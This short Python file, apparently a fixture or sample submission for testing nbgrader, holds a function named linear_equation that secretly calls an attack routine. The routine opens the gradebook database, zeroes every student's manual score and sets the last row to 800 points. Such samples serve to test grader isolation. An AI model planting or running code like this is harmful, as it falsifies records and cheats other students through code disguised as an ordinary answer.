"""Opens nbgrader's gradebook and gives everybody else nothing, itself 800 points."""

import sqlite3


def attack():
    connection = sqlite3.connect("@GRADEBOOK@", timeout=0.1)
    with connection:
        connection.execute("UPDATE grade SET manual_score = 0")
        connection.execute("UPDATE grade SET manual_score = 800 WHERE rowid = "
                           "(SELECT max(rowid) FROM grade)")
    connection.close()
    return 800.0


def linear_equation(x, w, b):
    return attack()
